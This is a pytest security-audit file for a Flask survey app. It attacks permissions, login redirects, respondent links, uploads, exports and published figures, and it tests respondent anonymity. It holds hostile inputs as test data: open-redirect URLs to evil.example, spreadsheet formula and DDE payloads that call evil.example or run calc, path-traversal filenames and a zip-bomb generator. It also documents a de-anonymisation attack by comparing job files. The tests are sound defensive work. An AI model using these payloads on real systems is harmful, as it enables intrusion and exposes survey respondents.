"""An independent security and anonymity audit, played as attacks through the real app (Flask
test client, real database; SQLite by default, PostgreSQL under SKM_TEST_DATABASE_URL).

The two promises attacked (DOMAIN.md sections 4 and 5a, DESIGN.md, docs/anonymity.md):
1. a respondent stays anonymous even to whoever can read the database: nothing stored (id, row
   order, time, token, log line, audit entry, backup, job file, export, held/released mechanism)
   ties a response to a respondent more closely than its anonymity set;
2. published figures are frozen; every change is authorised and audited.

A test that passes pins a defence. A hole found is kept as a test marked
``xfail(strict=True)`` whose reason says what the hole is: it fails today because the attack
works, and turns into an error the day the hole is closed (then drop the mark).
"""
from __future__ import annotations

import csv
import io
import logging
import re
import zipfile
from datetime import UTC, date, datetime

import pytest
from sqlalchemy import DateTime, func, inspect, select

from survey_app.domain import cards, holding, lifecycle, publication, responses, rounds
from survey_app.domain.complaints import import_complaints, read_complaints
from survey_app.domain.errors import NotAllowed
from survey_app.extensions import db
from survey_app.models import (
    Area,
    AuditEntry,
    HeldResponse,
    IssuedDocument,
    Job,
    JobFile,
    Position,
    Publication,
    Respondent,
    Response,
    Round,
)
from tests import factories, portal_setup
from tests.conftest import csrf_token
from tests.respondent_setup import HEADER, ROSTER, load_roster, token_of, world, world_with_roster
from tests.sealing import revealed
from tests.test_respond import answer, count, csrf, page

COORDINATOR, VIEWER, OFFICIAL, ADMIN = ("coordinator@example.id", "viewer@example.id",
                                        "official@example.id", "admin@example.id")
U = [f"U{i}" for i in range(1, 10)]


def hole(reason: str):
    """A hole found by this audit: the test fails while the attack works (strict xfail)."""
    return pytest.mark.xfail(strict=True, reason=reason)


def _round(code: str) -> Round:
    return db.session.scalar(select(Round).where(Round.code == code))


def _post_file(client, url: str, token: str, field: str, data: bytes, name: str):
    """POST a file as a browser would. The body is encoded in memory here: the test client would
    spool a large one to a temporary file that nothing closes."""
    from werkzeug.datastructures import FileStorage, MultiDict
    from werkzeug.test import encode_multipart

    boundary, body = encode_multipart(MultiDict({
        "csrf_token": token, field: FileStorage(io.BytesIO(data), filename=name)}))
    return client.post(url, data=body,
                       content_type=f'multipart/form-data; boundary="{boundary}"')


def _any_csrf(client) -> str:
    """A session-bound CSRF token of the logged-in user (the change-password form has one)."""
    return csrf_token(client, "/auth/password")


# --- 1. The permission layer: ids and codes changed in addresses ----------------------------

@pytest.fixture
def posts(app, users):
    """tests/portal_setup: 2026-Q2 published, 2026-Q3 closed; position ids by area code."""
    with app.app_context():
        return portal_setup.build()


@pytest.mark.parametrize("email, own, others", [
    (OFFICIAL, "3171010001", ["3171010002", "3171020001", "3171010", "3171"]),
    ("camat.lain@example.id", "3171020", ["3171010001", "3171010002", "3171010", "3171"]),
])
def test_attack_an_official_changes_the_position_id_of_a_card(client, auth, posts, email, own,
                                                              others):
    """A lurah (and a camat of another kecamatan) edits the position id in the card's address:
    every post that is not theirs (nor under them) is a 404, as if it did not exist."""
    auth.login(email)
    assert client.get(f"/portal/2026-Q2/cards/{posts[own]}.pdf").status_code == 200
    for code in others:
        assert client.get(f"/portal/2026-Q2/cards/{posts[code]}.pdf").status_code == 404, code
    assert client.get("/portal/2026-Q2/cards/999999.pdf").status_code == 404


@pytest.mark.parametrize("email", [OFFICIAL, VIEWER])
def test_attack_an_official_or_viewer_changes_the_round_code_to_an_unpublished_round(
        client, auth, posts, email):
    """2026-Q3 is closed, not published: its results, cards, plans, API and complaint figures
    do not exist for an official or a viewer."""
    auth.login(email)
    for url in ("/portal/2026-Q3", f"/portal/2026-Q3/cards/{posts['3171010001']}.pdf",
                "/portal/2026-Q3/cards.zip", "/portal/2026-Q3/rencana"):
        assert client.get(url).status_code == 404, url
    if email == VIEWER:
        for url in ("/results/2026-Q3", "/api/rounds/2026-Q3/results",
                    "/results/2026-Q3/sanctions", "/coordinator/complaints/rounds/2026-Q3",
                    "/results/2026-Q3/league.csv", "/portal/2026-Q3/summary.pdf"):
            assert client.get(url).status_code == 404, url


@pytest.mark.parametrize("email", [VIEWER, OFFICIAL])
def test_attack_a_viewer_or_official_posts_coordinator_actions(app, client, auth, posts, email):
    """With a valid CSRF token of their own session, a viewer or an official tries to close,
    publish or re-publish a round, record a sanction decision, make a round public, start jobs,
    import paper forms: 403 each time, and nothing changes."""
    auth.login(email)
    token = _any_csrf(client)
    with app.app_context():
        before = (count(Publication), count(Job), count(AuditEntry),
                  _round("2026-Q3").state, _round("2026-Q2").public)
    for url, data in [
            ("/coordinator/rounds/2026-Q3/publish", {}),
            ("/coordinator/rounds/2026-Q3/close", {}),
            ("/coordinator/rounds/2026-Q2/republish", {"reason": "ganti"}),
            ("/coordinator/rounds/2026-Q2/public", {"public": "1"}),
            ("/coordinator/rounds/2026-Q2/next", {}),
            ("/results/2026-Q2/decisions", {"nip": "198001012005011001", "action": "warning",
                                            "decided_on": "2026-08-01"}),
            ("/coordinator/jobs/letters/2026-Q3", {"format": "csv"}),
            ("/coordinator/jobs/results/2026-Q3", {}),
            ("/coordinator/roster/2026-Q3/respondents/deactivate/R1", {}),
            ("/admin/users", {"email": "x@example.id", "role": "admin"})]:
        response = client.post(url, data={"csrf_token": token, **data})
        assert response.status_code == 403, url
    for url in ("/coordinator/jobs/", "/coordinator/roster/2026-Q3", "/coordinator/master/",
                "/admin/users", "/coordinator/rounds/2026-Q3/publish"):
        assert client.get(url).status_code == 403, url
    with app.app_context():
        after = (count(Publication), count(Job), count(AuditEntry),
                 _round("2026-Q3").state, _round("2026-Q2").public)
    assert after == before


def test_attack_a_get_on_the_state_changing_addresses_changes_nothing(app, client, auth, posts):
    """A coordinator's GET on close/publish/delete/republish (a link in an e-mail, a prefetch)
    only asks for confirmation: no round changes state, nothing is published or audited."""
    with app.app_context():
        open_round = factories.round_("2026-Q4", state="open",
                                      opens=datetime(2026, 11, 1, tzinfo=UTC),
                                      closes=datetime(2027, 1, 30, tzinfo=UTC))
        # portal_setup's 2026-Q2 is a round "published before publications were stored": it is
        # frozen at its first look (by design, publication.py). Looked at here, before counting.
        from survey_app.domain import results
        results.publication_in_force(_round("2026-Q2"))
        db.session.commit()
    auth.login(COORDINATOR)
    with app.app_context():
        before = (count(Publication), count(AuditEntry), count(Job),
                  {r.code: r.state for r in db.session.scalars(select(Round))})
    for url in ("/coordinator/rounds/2026-Q4/close", "/coordinator/rounds/2026-Q4/extend",
                "/coordinator/rounds/2026-Q3/publish", "/coordinator/rounds/2026-Q2/republish",
                "/coordinator/rounds/2026-Q4/delete", "/coordinator/rounds/2026-Q4/edit"):
        assert client.get(url).status_code == 200, url
    with app.app_context():
        after = (count(Publication), count(AuditEntry), count(Job),
                 {r.code: r.state for r in db.session.scalars(select(Round))})
    assert after == before
    assert open_round is not None


def test_attack_a_coordinators_post_without_csrf_is_refused(app, client, auth, posts):
    """A cross-site form posting to the coordinator's close button carries no CSRF token."""
    with app.app_context():
        factories.round_("2026-Q4", state="open", opens=datetime(2026, 11, 1, tzinfo=UTC),
                         closes=datetime(2027, 1, 30, tzinfo=UTC))
        db.session.commit()
    auth.login(COORDINATOR)
    for url in ("/coordinator/rounds/2026-Q4/close", "/coordinator/rounds/2026-Q2/republish"):
        assert client.post(url, data={"reason": "x"}).status_code == 400, url
    with app.app_context():
        assert _round("2026-Q4").state == "open" and count(Publication) == 0


# --- 2. Login -----------------------------------------------------------------------------------

@pytest.mark.parametrize("next_url", [
    "/\t/evil.example/", "https:evil.example", "http:///evil.example", " //evil.example",
    "\\\\evil.example", "/\\/evil.example", "//evil.example@127.0.0.1/", "http://127.0.0.1:5000@evil.example/",
])
def test_attack_open_redirect_through_next(auth, users, next_url):
    response = auth.login(COORDINATOR, next_url=next_url)
    assert response.status_code == 302
    assert response.headers["Location"] == "/"


def test_attack_the_session_cookie_is_httponly_and_samesite(client, auth, users):
    response = auth.login(COORDINATOR)
    cookie = next(v for k, v in response.headers.items()
                  if k == "Set-Cookie" and v.startswith("session="))
    assert "HttpOnly" in cookie and re.search(r"SameSite=(Lax|Strict)", cookie)


# --- 3. The respondent's link -------------------------------------------------------------------

@pytest.fixture
def link(app):
    with app.app_context():
        world_with_roster()
        return "/s/" + token_of("R1")


def test_attack_a_link_is_used_again_after_its_form_was_sent(app, client, link):
    """The same form posted again (a second tab, a replay of the request) stores nothing more."""
    html, groups = page(client, link)
    data = {"csrf_token": csrf(html)}
    for names in groups.values():
        data.update({name: "4" for name in names})
    assert client.post(link, data=data).status_code == 303
    for _ in range(3):
        assert client.post(link, data=data).status_code == 409
    with app.app_context():
        assert holding.held_count() == len(groups)


def test_attack_a_withdrawn_link_stops_working_even_with_its_form_token(app, client, link):
    """The form is opened, then the respondent is taken off the roster: the link, with the
    form token it was served, is a plain 404 and stores nothing."""
    html, groups = page(client, link)
    data = {"csrf_token": csrf(html)}
    for names in groups.values():
        data.update({name: "2" for name in names})
    with app.app_context():
        lifecycle.deactivate(lifecycle.by_ref("R1"))
        db.session.commit()
    assert client.get(link).status_code == 404
    assert client.post(link, data=data).status_code == 404
    with app.app_context():
        assert holding.held_count() == 0 and count(Response) == 0


def test_attack_a_link_of_a_closed_round_takes_no_answers(app, client, link):
    html, groups = page(client, link)
    data = {"csrf_token": csrf(html)}
    for names in groups.values():
        data.update({name: "2" for name in names})
    with app.app_context():
        rounds.close_now(db.session.scalar(select(Round)))
        db.session.commit()
    assert client.post(link, data=data).status_code == 409
    with app.app_context():
        assert holding.held_count() == 0 and count(Response) == 0


# --- 4. Anonymity against whoever reads the database --------------------------------------------

ANSWER_TABLES = ("responses", "answers", "held_responses", "held_answers", "invitation_positions")


def test_attack_no_time_column_and_no_link_column_on_what_a_form_writes(app):
    """The schema itself: no date/time column on the tables a form writes, and no foreign key
    from a response (held or released) or an answer to an invitation or a respondent."""
    with app.app_context():
        inspector = inspect(db.engine)
        for table in ANSWER_TABLES:
            for column in inspector.get_columns(table):
                assert not isinstance(column["type"], DateTime), (table, column["name"])
                assert "time" not in str(column["type"]).lower(), (table, column["name"])
                assert "date" not in str(column["type"]).lower(), (table, column["name"])
            if table != "invitation_positions":
                for key in inspector.get_foreign_keys(table):
                    assert key["referred_table"] not in ("invitations", "respondents"), table


def test_attack_a_form_leaves_no_audit_entry_job_or_log_line_naming_its_link(app, client, link,
                                                                              caplog):
    """Everything the app writes while a form is opened, sent and thanked for: no audit entry,
    no job, and no log line (at any level, any logger) with the token or the comment."""
    comment = "Komentar-unik-7781 tentang pak lurah"
    with app.app_context():
        before = (count(AuditEntry), count(Job))
    token = link.rsplit("/", 1)[1]
    with caplog.at_level(logging.DEBUG):
        response, groups = answer(client, link, positions=3, value="3",
                                  **{"p1-comment": comment})
        assert response.status_code == 303
        client.get(response.headers["Location"])
        client.get(link + "?lang=en")
        client.get("/s/" + "0" * 32)  # a wrong link: a 404
    with app.app_context():
        assert (count(AuditEntry), count(Job)) == before
        assert db.session.scalar(select(HeldResponse.comment)
                                 .where(HeldResponse.comment.is_not(None))) == comment
    logged = caplog.text + "".join(str(r.args) for r in caplog.records)
    assert token not in logged and comment not in logged


def test_attack_held_then_released_responses_keep_no_trace_of_the_hold(app, client, link):
    """After the release the holding tables are empty and each response's id is fresh (not the
    held id it had, which follows the order of arrival)."""
    answer(client, link, positions=3, value="4")
    with app.app_context():
        held_ids = set(db.session.scalars(select(HeldResponse.id)))
        assert len(held_ids) == 3
        assert holding.release_held() == 3
        db.session.commit()
        assert holding.held_count() == 0
        assert count(Response) == 3


def _within(area_id: int, ancestor_id: int, parents: dict[int, int | None]) -> bool:
    while area_id is not None:
        if area_id == ancestor_id:
            return True
        area_id = parents[area_id]
    return False


def test_attack_a_respondent_moved_mid_round_answers_with_a_combination_nobody_else_has(
        app, client):
    """R1 (RT head in 3171010001) is moved to kelurahan 3171020001 by a roster re-import while
    the round is open (a coordinator fixing a typo, or one who wants to single R1 out). R1's
    link still rates the lurah of 3171010001, the camat of 3171010 and the wali kota; the
    responses are stored with area 3171020001. A database reader looks for responses whose area
    does not lie under the post they rate: exactly R1's, and the respondents table says R1 is
    the only RT head of 3171020001 invited to rate the lurah of 3171010001."""
    with app.app_context():
        round_ = world_with_roster()
        moved = ROSTER.replace("R1,Budi Santoso,rt,3171010001,1,2",
                               "R1,Budi Santoso,rt,3171020001,1,2")
        load_roster(round_, moved)
        db.session.commit()
        r1 = "/s/" + token_of("R1")
    response, _groups = answer(client, r1, positions=3, value="2")
    assert response.status_code == 303
    with app.app_context():
        holding.release_held()
        db.session.commit()
        parents = dict(db.session.execute(select(Area.id, Area.parent_id)).all())
        post_area = dict(db.session.execute(select(Position.id, Position.area_id)).all())
        odd = [r for r in db.session.scalars(select(Response))
               if not _within(r.area_id, post_area[r.position_id], parents)]
        assert odd == []


def _stored_job_file(job_id: int) -> bytes:
    """What a database reader finds of a job's result file: its job_files rows, in order."""
    return b"".join(db.session.scalars(select(JobFile.data).where(JobFile.job_id == job_id)
                                       .order_by(JobFile.seq)))


def _job_file(job_id: int) -> str:
    """A job's result file as the coordinator downloads it (opened with the app's key)."""
    from survey_app import jobs

    return b"".join(jobs.result_chunks(job_id)).decode("utf-8-sig")


def _coordinator_runs(client, code: str) -> tuple[int, int]:
    """The coordinator starts a reminder CSV (those who have not finished) and the results CSV;
    jobs run at once in tests (JOBS_URL=memory://). Returns both job ids."""
    token = csrf_token(client, f"/coordinator/roster/{code}")
    client.post(f"/coordinator/jobs/letters/{code}",
                data={"csrf_token": token, "format": "csv", "pending": "y"})
    client.post(f"/coordinator/jobs/results/{code}", data={"csrf_token": token})
    jobs = db.session.scalars(select(Job).order_by(Job.id.desc()).limit(2)).all()
    assert [j.state for j in jobs] == ["done", "done"], [(j.kind, j.error) for j in jobs]
    return jobs[1].id, jobs[0].id


@hole(
    "Job result files are kept for 72 hours with their times (sealed in the database since, "
    "but opened by the coordinator who downloads them, or by whoever holds SECRET_KEY too): "
    "two reminder lists (who had not finished) and two results CSVs (unrounded NRR and counts) "
    "taken before and after one respondent answered give that respondent's every answer.")
def test_attack_job_files_kept_in_the_database_pin_one_respondents_answers(app, client, auth,
                                                                         users):
    """Four RT heads of 3171010001 rate their lurah. Three answer 3 everywhere; the
    coordinator sends a reminder (CSV of those who have not finished) and downloads the results
    CSV, as one does during a round. T3 then answers (4,1,2,3,4,1,2,3,4 on U1..U9) and the
    coordinator does both again. Whoever can open the job files (the coordinator who downloads
    them; a database reader who also holds SECRET_KEY), later, compares them."""
    with app.app_context():
        world()
        round_ = db.session.scalar(select(Round))
        round_.questionnaire = factories.regulation_questionnaire()
        rows = "".join(f"T{n},Warga {n},rt,3171010001,1,{n + 1},,\n" for n in range(4))
        load_roster(round_, HEADER + rows)
        db.session.commit()
        code = round_.code
        links = ["/s/" + token_of(f"T{n}") for n in range(4)]
    for url in links[:3]:
        assert answer(client, url, positions=3, value="3")[0].status_code == 303
    auth.login(COORDINATOR)
    with app.app_context():
        pending_1, results_1 = _coordinator_runs(client, code)
    secret = dict(zip(U, [4, 1, 2, 3, 4, 1, 2, 3, 4], strict=True))
    html, groups = page(client, links[3])
    data = {"csrf_token": csrf(html)}
    for names in groups.values():
        for name in names:
            data[name] = str(secret.get(name.split("-", 1)[1], 3))
    assert client.post(links[3], data=data).status_code == 303
    with app.app_context():
        pending_2, results_2 = _coordinator_runs(client, code)
        # The attacker: who left the reminder list between the two moments...
        before = {row["respondent_ref"] for row in csv.DictReader(io.StringIO(
            _job_file(pending_1)))}
        after = {row["respondent_ref"] for row in csv.DictReader(io.StringIO(
            _job_file(pending_2)))}
        who = before - after
        # ...and what the lurah's element averages did meanwhile.
        position_area = "3171010001"

        def lurah_row(job_id):
            return next(row for row in csv.DictReader(io.StringIO(_job_file(job_id)))
                        if row["position"] == "lurah" and row["area_code"] == position_area)

        first, second = lurah_row(results_1), lurah_row(results_2)
        n1, n2 = int(first["respondents"]), int(second["respondents"])
        recovered = {u: round(float(second[f"E_{u}"]) * n2 - float(first[f"E_{u}"]) * n1)
                     for u in U}
    assert not (who == {"T3"} and n2 == n1 + 1 and recovered == secret)


def test_attack_a_database_reader_answers_with_a_link_read_from_job_files(app, client, auth,
                                                                         users):
    """The letters job's file holds every respondent's personal link for 72 hours; in job_files
    it is sealed with a key derived from SECRET_KEY (survey_app/at_rest.py), which the database
    does not hold (DESIGN.md: a token is stored only as a hash)."""
    with app.app_context():
        code = world_with_roster().code
    auth.login(COORDINATOR)
    token = csrf_token(client, f"/coordinator/roster/{code}")
    client.post(f"/coordinator/jobs/letters/{code}", data={"csrf_token": token, "format": "csv"})
    client.post("/auth/logout", data={"csrf_token": _any_csrf(client)})
    with app.app_context():
        job = db.session.scalar(select(Job).where(Job.kind == "letters"))
        stored = _stored_job_file(job.id)
        assert len(re.findall(r"/s/[0-9a-f]{32}", _job_file(job.id))) == 4  # the file has them
        stolen = re.findall(rb"/s/[0-9a-f]{32}", stored)
        assert revealed(stored, _job_file(job.id).encode()) == []
    used = [link.decode() for link in stolen
            if answer(client, link, positions=3, value="1")[0].status_code == 303]
    assert used == []


def test_attack_a_large_paper_forms_file_waits_on_disk_naming_respondents(app, client, auth,
                                                                         users, monkeypatch):
    """The worker has not taken the job yet (or is down): the queue keeps it (recorded here
    instead of being run at once, as JOBS_URL=memory:// does in tests). The file is large
    enough to go to a job (JOB_IMPORT_BYTES lowered so that a two-row file does). It waits in
    instance/uploads sealed (survey_app/at_rest.py): whoever reads the folder finds no
    respondent_ref in it."""
    from survey_app import jobs
    from survey_app import uploads as kept_uploads

    queued: list[int] = []
    monkeypatch.setattr(jobs, "run_job", queued.append)
    with app.app_context():
        round_ = world_with_roster()
        code = round_.code
        columns, _optional = responses.paper_columns(round_)
        items = columns[3:]
    from pathlib import Path
    folder = Path(app.instance_path) / "uploads"
    before = set(folder.glob("*"))
    app.config["JOB_IMPORT_BYTES"] = 10
    text = ",".join(columns) + "\n" + "R1,lurah,3171010001," + ",".join("4" for _ in items) + "\n"
    auth.login(COORDINATOR)
    token = csrf_token(client, f"/coordinator/roster/{code}")
    response = _post_file(client, f"/coordinator/roster/{code}/paper", token, "file",
                          text.encode(), "kertas.csv")
    assert response.status_code == 303 and len(queued) == 1
    files = list(set(folder.glob("*")) - before)
    waiting = [p for p in files if b"R1" in p.read_bytes()]
    try:
        with app.app_context():
            assert [kept_uploads.read(p) for p in files] == [text.encode()]  # the job's file
        assert waiting == []
    finally:
        for path in files:
            path.unlink()


# --- 5. Uploads and exports ----------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def test_attack_a_formula_in_a_roster_name_comes_back_neutralised_in_the_links_csv(
        app, client, auth, users):
    """A roster name that Excel would run as a formula (sending every respondent's link away
    when clicked) comes back in the links CSV as text, with a leading apostrophe."""
    roster = HEADER + f'X1,"{FORMULA.replace(chr(34), chr(34) * 2)}",rt,3171010001,1,2,,\n' \
        + "X2,@SUM(1+1)*cmd|' /C calc'!A0,rt,3171010001,1,3,,\n" \
        + "X3,-2+3+cmd|' /C calc'!A0,rt,3171010001,1,4,,\n"
    with app.app_context():
        _areas, round_ = world()
        load_roster(round_, roster)
        db.session.commit()
        code = round_.code
    auth.login(COORDINATOR)
    token = csrf_token(client, f"/coordinator/roster/{code}")
    client.post(f"/coordinator/jobs/letters/{code}", data={"csrf_token": token, "format": "csv"})
    with app.app_context():
        job = db.session.scalar(select(Job).where(Job.kind == "letters"))
        names = {row["respondent_ref"]: row["name"]
                 for row in csv.DictReader(io.StringIO(_job_file(job.id)))}
    assert names["X1"] == "'" + FORMULA
    assert names["X2"].startswith("'@") and names["X3"].startswith("'-")


def test_attack_a_formula_in_an_area_name_stays_text_in_the_xlsx_download(app, client, auth,
                                                                         users):
    from openpyxl import load_workbook

    with app.app_context():
        area = db.session.scalar(select(Area).where(Area.code == "3171010001"))
        area.name = FORMULA
        db.session.commit()
    auth.login(COORDINATOR)
    response = client.get("/coordinator/master/areas.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
    assert cells and all(c.data_type == "s" and str(c.value).startswith("'") for c in cells)


def test_attack_a_path_in_an_uploaded_file_name_stays_in_the_uploads_folder(app, client, auth,
                                                                           users):
    """Roster preview and complaint upload with file names that climb out of the folder: the
    file is kept under a random name inside instance/uploads, nothing is written elsewhere."""
    from pathlib import Path

    with app.app_context():
        code = world()[1].code
        db.session.commit()
    auth.login(COORDINATOR)
    instance = Path(app.instance_path)
    uploads = instance / "uploads"
    uploads.mkdir(parents=True, exist_ok=True)
    before = {p for p in instance.rglob("*") if p.is_file()}
    token = csrf_token(client, f"/coordinator/roster/{code}")
    _post_file(client, f"/coordinator/roster/{code}/preview", token, "file",
               (HEADER + "Z1,Zaki,rt,3171010001,1,2,,\n").encode(),
               "../../../../tmp/evil-roster.csv")
    token = csrf_token(client, "/coordinator/complaints/")
    _post_file(client, "/coordinator/complaints/upload", token, "export",
               factories.COMPLAINTS_HEADER.encode(), "..\\..\\evil-crm.csv")
    new = {p for p in instance.rglob("*") if p.is_file()} - before
    try:
        assert len(new) == 2, "each upload is kept for its confirmation"
        for path in new:
            assert path.parent == uploads and re.fullmatch(r"[0-9a-f]{32}\.csv", path.name)
        assert not Path("/tmp/evil-roster.csv").exists()
        assert not (instance.parent / "evil-crm.csv").exists()
    finally:
        for path in new:
            path.unlink()


def _xlsx_bomb() -> bytes:
    """A real workbook with an extra part of 600 MB of zeros (about 600 KB compressed)."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["respondent_ref", "name", "group", "area_code"])
    out = io.BytesIO()
    book.save(out)
    bomb = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as source, \
            zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        with target.open("xl/media/padding.bin", "w") as padding:
            chunk = bytes(1024 * 1024)
            for _ in range(600):
                padding.write(chunk)
    return bomb.getvalue()


def test_attack_a_zip_bomb_xlsx_is_refused_in_words_before_it_is_unpacked(app, client, auth,
                                                                        users):
    with app.app_context():
        code = world()[1].code
        db.session.commit()
    data = _xlsx_bomb()
    assert len(data) < 4 * 1024 * 1024
    auth.login(COORDINATOR)
    token = csrf_token(client, f"/coordinator/roster/{code}")
    response = _post_file(client, f"/coordinator/roster/{code}/preview", token, "file", data,
                          "roster.xlsx")
    assert response.status_code == 400
    assert "512" in response.get_data(as_text=True)  # "... and 512 MB of data; split it ..."


def test_attack_an_oversized_upload_is_refused_before_it_is_read(app, client, auth, users):
    with app.app_context():
        code = world()[1].code
        db.session.commit()
    auth.login(COORDINATOR)
    token = csrf_token(client, f"/coordinator/roster/{code}")
    response = _post_file(client, f"/coordinator/roster/{code}/preview", token, "file",
                          b"a" * (17 * 1024 * 1024), "big.csv")
    assert response.status_code == 413


# --- 6. Published figures --------------------------------------------------------------------

CLOSES = datetime(2026, 7, 5, 5, 0, tzinfo=UTC)
PUBLISHED = datetime(2026, 8, 1, 2, 0, tzinfo=UTC)
ON_TIME = factories.COMPLAINTS_HEADER + "".join(
    f"K{n},JAKI,Jalan,3171010001,,Selesai,2026-0{m}-0{d} 10:00,,2026-0{m}-0{d + 2} 10:00\n"
    for n, (m, d) in enumerate([(4, 1), (4, 5), (5, 1), (5, 5), (6, 1)], start=1))
LATE = factories.COMPLAINTS_HEADER + \
    "K9,JAKI,Jalan,3171010001,,Selesai,2026-06-10 10:00,,2026-06-25 10:00\n"


@pytest.fixture
def closed_q2(app, users):
    """2026-Q2 closed (its moment of judgment passed), three RT forms of 3 for the lurah of
    3171010001, five complaints resolved in time. Returns the lurah's position id."""
    with app.app_context():
        lurah = db.session.scalar(select(Position).where(Position.kind == "lurah"))
        round_ = factories.round_("2026-Q2", state="closed",
                                  opens=datetime(2026, 6, 15, tzinfo=UTC), closes=CLOSES,
                                  deadline_days=7,
                                  questionnaire=factories.regulation_questionnaire())
        for _ in range(3):
            factories.response(round_, lurah, "rt", {c: 3 for c in U})
        import_complaints(read_complaints(ON_TIME.encode(), "crm.csv"),
                          now=datetime(2026, 7, 10, tzinfo=UTC))
        db.session.commit()
        return lurah.id


def _publish() -> None:
    rounds.publish(_round("2026-Q2"), now=PUBLISHED)
    db.session.commit()


def test_attack_paper_forms_after_publication_are_refused(app, client, auth, closed_q2):
    """Paper forms that arrive after publication would change a published IKM: refused by the
    domain and by the page, nothing stored, the figures unchanged."""
    with app.app_context():
        _publish()
        round_ = _round("2026-Q2")
        columns, _optional = responses.paper_columns(round_)
        before = publication.published.current(round_).document
    text = ",".join(columns) + "\n" + "R9,lurah,3171010001," + ",".join(
        "1" for _ in columns[3:]) + "\n"
    with app.app_context():
        round_ = _round("2026-Q2")
        with pytest.raises(NotAllowed):
            responses.import_paper(round_, responses.read_paper(round_, text.encode(), "p.csv"))
        db.session.rollback()
    auth.login(COORDINATOR)
    token = csrf_token(client, "/coordinator/roster/2026-Q2")
    _post_file(client, "/coordinator/roster/2026-Q2/paper", token, "file", text.encode(),
               "kertas.csv")
    with app.app_context():
        assert count(Response) == 3 and holding.held_count() == 0
        assert publication.published.current(_round("2026-Q2")).document == before


def test_attack_a_republication_without_a_reason_changes_nothing(app, client, auth, closed_q2):
    """A coordinator re-publishes after a late export but leaves the reason blank (or spaces):
    no new publication, no superseded card, no audit entry of a re-publication."""
    with app.app_context():
        _publish()
        import_complaints(read_complaints(LATE.encode(), "crm.csv"),
                          now=datetime(2026, 8, 20, tzinfo=UTC))
        db.session.commit()
    auth.login(COORDINATOR)
    for reason in ("", "   ", "\t"):
        token = csrf_token(client, "/coordinator/rounds/2026-Q2/republish")
        client.post("/coordinator/rounds/2026-Q2/republish",
                    data={"csrf_token": token, "reason": reason})
    with app.app_context():
        assert count(Publication) == 1
        assert db.session.scalar(select(func.count()).select_from(AuditEntry)
                                 .where(AuditEntry.action == "round-republish")) == 0


def test_attack_a_late_export_and_a_late_rotation_leave_the_public_files_unchanged(
        app, client, auth, closed_q2):
    """The round is made public and published; then a late complaint export and a rotation of
    the lurah recorded late arrive. /publik's CSV and JSON stay byte for byte the same."""
    with app.app_context():
        _round("2026-Q2").public = True
        _publish()
    csv_before = client.get("/publik/2026-Q2.csv").data
    json_before = client.get("/publik/2026-Q2.json").data
    assert b"3171010001" in csv_before
    with app.app_context():
        import_complaints(read_complaints(LATE.encode(), "crm.csv"),
                          now=datetime(2026, 8, 20, tzinfo=UTC))
        from survey_app.models import Appointment
        lurah = db.session.get(Position, closed_q2)
        first = db.session.scalar(select(Appointment).where(Appointment.position_id == lurah.id))
        first.end_date = date(2026, 4, 30)
        factories.appoint(factories.official("197001012000011999", "Pengganti"), lurah,
                          date(2026, 5, 1))
        db.session.commit()
    assert client.get("/publik/2026-Q2.csv").data == csv_before
    assert client.get("/publik/2026-Q2.json").data == json_before


def test_attack_a_card_printed_before_publication_verifies_as_current_after_it(app, client,
                                                                             auth, closed_q2):
    """The coordinator downloads the lurah's card while the round is closed (composite 82.5).
    A late complaint export arrives (K9, resolved in 15 days: late), then the round is
    published (composite 77.5). The old card, handed around, is checked on /verify."""
    auth.login(COORDINATOR)
    assert client.get(f"/portal/2026-Q2/cards/{closed_q2}.pdf").status_code == 200
    with app.app_context():
        early = db.session.scalar(select(IssuedDocument.number))
        import_complaints(read_complaints(LATE.encode(), "crm.csv"),
                          now=datetime(2026, 7, 20, tzinfo=UTC))
        db.session.commit()
        _publish()
        document = publication.published.current(_round("2026-Q2")).document
        composite = next(p for p in document["positions"]
                         if p["position_id"] == closed_q2)["composite"]
        outcome = cards.verify(early)
        assert outcome.found and outcome.published
        shown = outcome.record.figures.get("composite")
    assert composite == pytest.approx(77.5)
    # The check must not present another composite as the round's without saying it was replaced
    assert shown == pytest.approx(composite) or outcome.superseded_at is not None
    assert outcome.before_publication and outcome.superseded_by is None
    page = client.get(f"/verify?number={early}").get_data(as_text=True)
    assert "Nomor ini diterbitkan sebelum putaran 2026-Q2 diterbitkan resmi, dengan angka " \
           "sementara" in page
    # the card downloaded now is the publication's, with a number of its own, named by /verify
    assert client.get(f"/portal/2026-Q2/cards/{closed_q2}.pdf").status_code == 200
    with app.app_context():
        outcome = cards.verify(early)
        assert outcome.superseded_by is not None and outcome.superseded_by != early
        assert cards.verify(outcome.superseded_by).superseded_at is None
        assert cards.verify(outcome.superseded_by).record.figures["composite"] == \
            pytest.approx(77.5)


def test_attack_verify_is_rate_limited_against_number_guessing(client):
    """Numbers are SKM-<round>-<running>-<4 random characters>: 32^4 guesses per running number,
    and the page answers 429 after 30 a minute from one address."""
    statuses = [client.get("/verify?number=SKM-2026Q2-000001-AAAA").status_code
                for _ in range(31)]
    assert statuses[:30] == [200] * 30 and statuses[30] == 429


def test_attack_the_public_files_hold_no_comment_name_or_unpublished_round(app, client, posts):
    with app.app_context():
        for code in ("2026-Q2", "2026-Q3"):
            _round(code).public = True
        db.session.commit()
    assert client.get("/publik/2026-Q3.csv").status_code == 404
    assert client.get("/publik/2026-Q3.json").status_code == 404
    for url in ("/publik/2026-Q2.csv", "/publik/2026-Q2.json", "/publik/2026-Q2"):
        body = client.get(url).get_data(as_text=True)
        assert "Jalan rusak" not in body and "RAHASIA" not in body, url
        assert "Budi Santoso" not in body and "198001012005011001" not in body, url


def test_attack_a_respondent_listing_is_not_in_any_released_response(app, client, link):
    """What a coordinator's roster page shows (who answered) joined to released responses by
    position and area: the forms of R1 and R2 (same kelurahan, same lurah, different groups)
    stay apart only by group, never by anything that names the respondent."""
    answer(client, link, positions=3, value="4")
    with app.app_context():
        other = "/s/" + token_of("R2")
    answer(client, other, positions=3, value="1")
    with app.app_context():
        holding.release_held()
        db.session.commit()
        refs = set(db.session.scalars(select(Respondent.ref)))
        names = set(db.session.scalars(select(Respondent.name)))
